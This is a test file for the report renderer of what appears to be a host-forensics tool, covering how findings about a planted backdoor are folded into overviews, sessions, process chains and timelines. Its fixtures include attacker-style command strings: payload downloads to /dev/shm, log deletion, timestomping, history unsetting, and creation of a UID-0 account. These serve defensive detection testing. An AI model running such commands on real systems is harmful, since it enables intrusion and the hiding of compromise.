import { stripVTControlCharacters } from 'node:util';
import { describe, expect, it } from 'vitest';
import type { RelatedActivity } from '#dist/investigate/activity.js';
import type { Case, ChainLink, HostCase } from '#dist/investigate/case.js';
import type { HostSession } from '#dist/investigate/case-sessions.js';
import { caseMarkdown } from '#dist/investigate/report/markdown.js';
import { defaultParts } from '#dist/investigate/report/parts.js';
import { casePretty } from '#dist/investigate/report/pretty.js';
import type { ReportContext } from '#dist/report/reporter.js';
import {
  backdoor,
  caseEvent,
  caseOf,
  fullCase,
  hostCase,
  hostileTexts,
  plantedFile,
  writtenCase,
} from '../../report/cases.js';
import { forbiddenIn } from '../../report/forbidden.js';
import { plainContext, summaryOf } from '../../report/writers.js';

const folded: ReportContext = { ...plainContext, parts: defaultParts, foldsParts: true };

async function textOf(found: Case, changes: Partial<ReportContext> = {}): Promise<string> {
  return writtenCase(casePretty, found, { context: { ...folded, ...changes } });
}

async function linesOf(...of: Parameters<typeof textOf>): Promise<string[]> {
  return (await textOf(...of)).split('\n');
}

function activity(changes: Partial<RelatedActivity> = {}): RelatedActivity {
  return {
    what: 'command',
    relation: 'lineage',
    subject: 'id',
    first: '2026-03-02T04:11:03Z',
    times: 1,
    relatedRule: false,
    isMatch: false,
    events: [1],
    ...changes,
  };
}

function withActivities(
  surroundings: readonly RelatedActivity[],
  changes: Partial<HostCase> = {},
): Case {
  return caseOf({ hosts: [hostCase({ surroundings, ...changes })] });
}

describe('a folded case', () => {
  it('fits on two screens, and says how to see more', async () => {
    const lines = await linesOf(backdoor, { width: 80 });
    expect(lines.length).toBeLessThan(60);
    for (const line of lines) expect(line.length).toBeLessThanOrEqual(80);
    expect(lines).toContain(
      'The scan is complete: all input was read. More: --parts steps, or all in full.',
    );
  });

  it('says first what is damaged, left out or beside the rule', async () => {
    const leftOut = {
      files: [{ host: 'web-09', path: '/etc/init.d/x', matches: 1 }],
      matchesNotNamed: 0,
    };
    const text = await writtenCase(casePretty, caseOf({ leftOut }), {
      context: folded,
      summary: summaryOf({ matches: 1, complete: false, problems: 2 }),
    });
    const first = text.slice(0, text.indexOf('#1 '));
    expect(first).toMatch(/^The scan is INCOMPLETE: 2 problems/);
    expect(first).toContain('Left out: 1 file on 1 host, named under “Left out of this case”.');
  });

  it.each(hostileTexts)('adds no line for %j, and controls nothing', async (text) => {
    const parts = new Set([...defaultParts].filter((part) => part !== 'indicators'));
    const report = await textOf(
      fullCase(() => text),
      { parts },
    );
    expect(forbiddenIn(report, { newlines: true })).toEqual([]);
    const plain = await textOf(
      fullCase(() => 'x'.repeat(Math.max(1, text.length))),
      { parts },
    );
    // Whether a command downloads or hides something depends on its words.
    const count = (of: string): number =>
      of.split('\n').filter((line) => !/^ {4}(?:files|hides|other|accounts)/.test(line)).length;
    expect(count(report)).toBe(count(plain));
  });

  it.each([60, 80, 120])('is as wide as a terminal of %d columns at most', async (width) => {
    for (const found of [backdoor, fullCase((member) => `${member} of a case`)]) {
      for (const line of await linesOf(found, { width })) {
        expect(line.length, line).toBeLessThanOrEqual(width);
      }
    }
  });

  it('has the same text in color, with bad news in red', async () => {
    const colored = await textOf(backdoor, { color: true });
    expect(stripVTControlCharacters(colored)).toBe(await textOf(backdoor));
    expect(colored).toContain('\u001b[31m\u001b[1mYES');
    expect(colored).toContain('\u001b[31m⇒ ROOT');
  });
});

describe('the overview', () => {
  const files = (number: number, host = 'web-01'): HostCase =>
    hostCase({
      name: host,
      files: Array.from({ length: number }, (_, at) =>
        plantedFile({ path: `/etc/init.d/svc-${at}` }),
      ),
    });

  it('has one line for findings that say the same, and names them all', async () => {
    const lines = await linesOf(caseOf({ hosts: [files(22)] }));
    expect(lines.slice(0, lines.indexOf(''))).toEqual([
      'Overview',
      '      RAN       BOOT     ALERTS  HOSTS   FILE       BY       FROM       HARMLESS?',
      '  #1  not seen  unknown  -       web-01  22× svc-0  unknown  not shown  nothing',
      '  N× name: N that are alike, of which it is one',
    ]);
    expect(lines.filter((line) => /^#\d+ {2}/.test(line))).toHaveLength(1);
    const same = lines.find((line) => line.startsWith('  SAME FOR')) ?? '';
    for (let at = 1; at < 22; at += 1) expect(same).toContain(`#${at + 1} /etc/init.d/svc-${at}`);
  });

  it('never takes findings together that answer differently', async () => {
    const ran = { answer: 'ran', evidence: [], evidenceLeftOut: 0 } as const;
    const different = hostCase({
      files: [plantedFile(), plantedFile({ path: '/etc/init.d/b', execution: ran })],
    });
    const lines = await linesOf(caseOf({ hosts: [different] }));
    expect(lines.filter((line) => /^#\d+ {2}/.test(line))).toHaveLength(2);
    const hosts = [files(1, 'web-01'), files(1, 'web-02')];
    const apart = await linesOf(caseOf({ hosts }));
    expect(apart.filter((line) => /^#\d+ {2}/.test(line))).toHaveLength(2);
  });

  it('is one line for each finding on a narrow terminal', async () => {
    const hosts = [
      files(1, 'a-very-long-name-of-a-host.example.com'),
      files(1, 'another-very-long-name.example.com'),
    ];
    for (const width of [60, 80]) {
      const lines = await linesOf(caseOf({ hosts }), { width });
      const rows = lines.slice(1, lines.indexOf(''));
      expect(rows).toHaveLength(3);
      for (const row of rows) expect(row.length).toBeLessThanOrEqual(width);
    }
  });

  it('names the files that deviate from a group', async () => {
    const group = {
      path: '/etc/init.d/netd',
      hosts: ['web-01', 'web-02'],
      files: [
        { hostName: 'web-01', path: '/etc/init.d/netd', host: 0 },
        { hostName: 'web-02', path: '/etc/init.d/netd', host: 1 },
      ],
      signs: [],
      deviations: [
        {
          hostName: 'web-03',
          path: '/etc/init.d/netd',
          differs: ['contents' as const],
          events: [7],
        },
      ],
      events: [1],
    };
    const lines = await linesOf(caseOf({ groups: [group] }));
    expect(lines).toContain(
      '  ALIKE      2 files on 2 hosts: 1 here, 1 in other findings; DEVIATES: web-03 in contents [7]',
    );
  });
});

describe('what else happened, folded', () => {
  it.each([
    ['alerts', { what: 'alert', subject: 'Rule' }],
    ['persistence', { what: 'authorized-keys', subject: '/root/.ssh/authorized_keys' }],
    ['network', { what: 'dns', subject: 'pool.example' }],
    ['files, downloads', { what: 'file', subject: '/usr/bin/x' }],
    ['files, downloads', { subject: 'curl -o x http://x' }],
    ['files, downloads', { subject: "sh -c 'cd /tmp; wget -q http://x'" }],
    ['hiding, removal', { what: 'file-deleted', subject: '/var/log/auth.log' }],
    ['hiding, removal', { subject: 'rm -rf /tmp/x' }],
    ['hiding, removal', { subject: 'touch -r /etc/init.d/cron /etc/init.d/x' }],
    ['hiding, removal', { subject: 'bash -c "unset HISTFILE"' }],
    ['accounts', { subject: '/usr/sbin/useradd -o -u 0 x' }],
    ['accounts', { what: 'file', subject: '/etc/shadow' }],
    ['logins', { what: 'login', subject: '203.0.113.1' }],
    ['other commands', { subject: 'uname -a' }],
    ['other commands', { subject: 'echo curl' }],
    ['other commands', { subject: 'sh -c cat /etc/passwd' }],
    ['accounts', { subject: 'sh -c cat x | sudo passwd root' }],
    ['files, downloads', { subject: 'sudo -n curl -o x http://x' }],
  ] as const)('is under %s: %j', async (label, changes) => {
    // The finding does not cite it.
    const others = Array.from({ length: 6 }, (_, at) =>
      activity({ ...changes, subject: `${at}`, events: [at + 2] }),
    );
    const isListed = ['alerts', 'persistence', 'network'].includes(label);
    const lines = await linesOf(
      withActivities([...(isListed ? others : []), activity({ ...changes, events: [20] })]),
    );
    const found = lines.find((line) => line.startsWith(`    ${label} `));
    expect(found).toContain(changes.subject.slice(0, 30));
  });

  it('counts what it does not list, and does not repeat what the finding says', async () => {
    const commands = Array.from({ length: 400 }, (_, at) => activity({ subject: `make ${at}` }));
    const lines = await linesOf(
      withActivities([
        ...commands,
        activity({ what: 'alert', subject: 'Rule', events: [2] }),
        activity({ what: 'cron', subject: '/etc/cron.d/root', events: [3] }),
        activity({
          events: [4],
          what: 'systemd-unit',
          subject: '/lib/systemd/system',
          subjects: { count: 400, first: ['/lib/systemd/system/a.service'] },
          times: 400,
        }),
      ]),
    );
    expect(lines).toContain('  ALERTS     Rule 2026-03-02 04:11:03Z [2]');
    expect(lines).toContain(
      '  ALSO       400 systemd units in /lib/systemd/system; cron file /etc/cron.d/root; 400 commands [3, 4]',
    );
    expect(lines.join('\n')).not.toMatch(/^ {4}(?:alerts|persistence)/m);
    expect(lines).toContain('    other commands    make 0; make 1; 398 more [1]');
  });

  it('is by session if there are several', async () => {
    const sessions: HostSession[] = [1, 2].map((number) => ({
      number,
      type: 'sshd',
      address: `203.0.113.${number}`,
      users: ['root'],
      files: ['/etc/init.d/netd'],
      events: [1],
    }));
    const surroundings = [
      activity({ subject: 'make one', session: { number: 1 } }),
      activity({ subject: 'make two', session: { number: 2 } }),
      activity({ subject: 'make none' }),
      activity({ subject: 'make script', relation: 'script' }),
    ];
    const lines = await linesOf(withActivities(surroundings, { sessions }));
    const from = lines.indexOf('What else happened');
    expect(lines.slice(from + 1, from + 9)).toEqual([
      '  By session 1 of 2: SSH login from 203.0.113.1, user root',
      '    other commands    make one [1]',
      '  By session 2 of 2: SSH login from 203.0.113.2, user root',
      '    other commands    make two [1]',
      '  By one of these sessions',
      '    other commands    make none [1]',
      '  By a planted script',
      '    other commands    make script [1]',
    ]);
  });

  it('loses no activity of a host without sessions', async () => {
    for (const sessions of [[], undefined]) {
      const found = withActivities([activity({ subject: 'make x' })], {
        ...(sessions && { sessions }),
      });
      expect(await textOf(found)).toContain('make x');
    }
  });
});

describe('what there is too much of', () => {
  it('is folded, and counted: hosts, sessions, restarts and excluded scripts', async () => {
    const restart = {
      time: '2026-03-03T00:00:00.000Z',
      programs: Array.from({ length: 40 }, (_, at) => ({
        program: `/usr/bin/p${at}`,
        command: `/usr/bin/p${at}`,
        events: [1],
      })),
      programsLeftOut: 0,
      isCompared: true,
      events: [1],
    };
    const sessions: HostSession[] = Array.from({ length: 20 }, (_, at) => ({
      number: at + 1,
      type: 'sshd',
      address: `203.0.113.${at}`,
      users: ['root'],
      files: ['/etc/init.d/netd'],
      events: [1],
    }));
    const surroundings = sessions.map(({ number }) =>
      activity({
        ...(number === 19 && { what: 'login' }),
        subject: `make ${number}`,
        session: { number },
      }),
    );
    const hosts = Array.from({ length: 20 }, (_, at) =>
      hostCase({ name: `host-${at}`, restarts: [restart], sessions, surroundings }),
    );
    const lines = await linesOf(caseOf({ hosts }));
    expect(lines.filter((line) => line.startsWith('Host '))).toHaveLength(8);
    expect(lines).toContain('12 more hosts that differ, less important: --host or --parts all');
    const first = lines.slice(
      0,
      lines.findIndex((line) => line.startsWith('Host host-1 ')),
    );
    expect(first.filter((line) => line.includes('running  '))).toHaveLength(4);
    expect(first).toContain('                      36 more (--parts activities)');
    expect(first.filter((line) => /^ {2}By session/.test(line))).toHaveLength(6);
    expect(first).toContain('  By other sessions: 14 more (--parts activities)');
    expect(first).toContain('    logins            make 19 [1]');
  });
});

describe('a folded chain', () => {
  const link = (changes: Partial<ChainLink>): ChainLink => ({
    role: 'ancestor',
    known: 'own',
    odd: [],
    events: [1],
    ...changes,
  });

  it('has a line for each process, and one for a shell that forks', async () => {
    const chain = [
      link({ role: 'writer', commandLine: 'bash /dev/shm/.i', odd: ['dev-shm'], events: [3] }),
      link({ commandLine: 'bash /dev/shm/.i', events: [2] }),
      link({ role: 'entry-leader', commandLine: `sh -c ${'x'.repeat(200)}`, user: 'www-data' }),
    ];
    const planters = [{ chain, reachesEntry: true, events: [4] }];
    const lines = await linesOf(
      caseOf({ hosts: [hostCase({ files: [plantedFile({ planters })] })] }),
    );
    const from = lines.indexOf('Who wrote it');
    expect(lines.slice(from + 1, lines.indexOf('', from))).toEqual([
      '  session: origin not shown in this log',
      `  └ sh -c ${'x'.repeat(49)}… (www-data) [1]`,
      '   └ bash /dev/shm/.i → wrote it [2, 3, 4]',
    ]);
  });

  it('shows every session before further chains of one', async () => {
    const creator = (session: string, at: number) => ({
      chain: [link({ role: 'writer', commandLine: `${session} ${at}`, entityId: session })],
      reachesEntry: true,
      session: { type: 'sshd', address: session, isInferred: false, events: [1] },
      events: [1],
    });
    const planters = [
      ...Array.from({ length: 9 }, (_, at) => creator('203.0.113.1', at)),
      creator('203.0.113.2', 0),
    ];
    const lines = await linesOf(
      caseOf({ hosts: [hostCase({ files: [plantedFile({ planters })] })] }),
    );
    const from = lines.indexOf('Who wrote it');
    const tree = lines.slice(from, lines.indexOf('', from));
    expect(tree.filter((line) => line.includes('SSH login from 203.0.113.2'))).toHaveLength(1);
    expect(tree).toContain('  3 more chains: --parts chain');
  });
});

describe('a folded timeline', () => {
  it('has the planting, the run and the alert, however many other events there are', async () => {
    const events = Array.from({ length: 500 }, (_, at) =>
      caseEvent(at + 1, {
        time: `2026-03-02T04:${String(Math.floor(at / 60)).padStart(2, '0')}:${String(at % 60).padStart(2, '0')}.000Z`,
        what: at % 2 === 0 ? 'process-started' : 'process-forked',
        subject: `make ${at}`,
      }),
    );
    const host = hostCase({
      files: [
        plantedFile({
          events: [251],
          execution: {
            answer: 'ran',
            evidence: [{ evidence: 'process', value: 'x', events: [401] }],
            evidenceLeftOut: 0,
          },
        }),
      ],
      surroundings: [
        activity({ what: 'alert', subject: 'Rule', events: [301] }),
        ...events.map(({ number }) => activity({ subject: `make ${number}`, events: [number] })),
      ],
    });
    const lines = await linesOf(caseOf({ hosts: [host], events }), { width: 80 });
    const entries = lines.filter((line) => /^ +\[\d+\] /.test(line));
    expect(entries).toHaveLength(7);
    for (const number of [251, 301, 401]) {
      expect(entries.filter((line) => line.includes(`[${number}]`))).toHaveLength(1);
    }
    expect(entries.join('\n')).not.toContain('forked');
    expect(lines).toContain('  493 more events, forks and ends included: --parts timeline');
  });
});

describe('a whole timeline', () => {
  it('leaves room for what happened on a narrow terminal, and loses nothing', async () => {
    const parts = new Set(['timeline']);
    const written = await textOf(backdoor, { parts, foldsParts: false, width: 60 });
    const lines = written.slice(written.indexOf('Timeline')).split('\n');
    for (const line of lines) expect(line.length).toBeLessThanOrEqual(60);
    expect(lines.slice(1, 3)).toEqual([
      '  [1]  2026-03-02T04:11:01.000Z  -2.0 s  started',
      '        curl -s http://203.0.113.77/x -o /dev/shm/.x (user',
    ]);
    const wide = await textOf(backdoor, { parts, foldsParts: false });
    const blanks = (text: string): string => text.replace(/\s+/g, '');
    expect(blanks(written)).toBe(blanks(wide));
  });
});

describe('across hosts', () => {
  const host = (name: string, at: number, address: string): HostCase =>
    hostCase({
      name,
      files: [
        plantedFile({
          events: [at],
          facts: [{ fact: 'sha256', value: 'ab'.repeat(32), events: [at] }],
          planters: [
            {
              chain: [
                {
                  role: 'entry-leader',
                  known: 'own',
                  commandLine: '-bash',
                  user: at < 3 ? 'lena' : 'root',
                  odd: [],
                  events: [at],
                },
              ],
              reachesEntry: true,
              session: { type: 'sshd', address, isInferred: false, events: [at] },
              events: [at],
            },
          ],
        }),
      ],
    });
  const found = caseOf({
    hosts: [
      host('db-02', 2, '203.0.113.1'),
      host('web-01', 1, '203.0.113.1'),
      host('app-03', 3, '203.0.113.9'),
    ],
    events: [caseEvent(1, { host: 1 }), caseEvent(2), caseEvent(3, { host: 2 })],
  });

  it('shows the same address, contents and user in order of time', async () => {
    const lines = await linesOf(found);
    const from = lines.indexOf('The same on several hosts');
    expect(lines.slice(from + 1, lines.indexOf('', from))).toEqual([
      '  address 203.0.113.1, user lena on 2 hosts: web-01 2026-03-02 04:11:01Z → db-02 04:11:02Z [1, 2]',
      `  contents ${'ab'.repeat(9)}a… on 3 hosts: web-01 2026-03-02 04:11:01Z → db-02 04:11:02Z → app-03 04:11:03Z [1, 2, 3]`,
    ]);
  });

  it('is not shown for one host, or if it is not asked for', async () => {
    expect(await textOf(backdoor)).not.toContain('The same on several hosts');
    expect(await textOf(found, { parts: new Set(['chain']) })).not.toContain('The same on');
  });
});

describe('the parts', () => {
  it('are exactly those that are asked for', async () => {
    const titles = {
      files: 'Will it run at boot?',
      chain: 'Who wrote it',
      activities: 'What else happened',
      timeline: 'Timeline',
      steps: 'Next steps',
      indicators: 'Indicators',
    };
    for (const part of Object.keys(titles)) {
      const text = await textOf(backdoor, { parts: new Set([part]), foldsParts: false });
      const markdown = await writtenCase(caseMarkdown, backdoor, {
        context: { ...plainContext, parts: new Set([part]) },
      });
      for (const [other, title] of Object.entries(titles)) {
        const heading = new RegExp(
          `^(?: {0,2}|#+ |<details><summary>)${title.replace('?', '\\?')}`,
          'm',
        );
        expect(heading.test(text), `${part} ${other}`).toBe(other === part);
        expect(heading.test(markdown), `${part} ${other}`).toBe(other === part);
      }
    }
  });
});
